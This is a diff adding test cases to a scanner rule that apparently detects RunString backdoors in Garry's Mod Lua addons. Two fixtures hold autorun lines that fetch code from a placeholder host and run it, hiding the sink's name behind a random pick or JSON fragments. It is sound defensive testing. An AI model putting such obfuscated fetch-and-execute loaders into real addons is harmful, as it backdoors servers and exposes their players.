@@ -352,4 +352,35 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('a sink picked at run time from a list of names', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local names = { "RunString" }',
+        'http.Fetch("https://x.invalid/p", function(b) _G[names[math.random(1, #names)]](b) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("a sink's name kept as pieces in a JSON text", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local parts = util.JSONToTable(\'["Run","String"]\')',
+        'http.Fetch("https://x.invalid/p", function(b) _G[table.concat(parts)](b) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a greeting picked at random, and settings read from a JSON text (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local greetings = { "Hello", "Welcome", "Hi" }',
+        'local cfg = util.JSONToTable(\'{"motd":"print","delay":5}\')',
+        'hook.Add("PlayerInitialSpawn", "greet", function(ply)',
+        '  timer.Simple(cfg.delay, function() ply:ChatPrint(greetings[math.random(#greetings)]) end)',
+        'end)',
+        'http.Fetch("https://x.invalid/motd", function(b) _G[cfg.motd](b) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
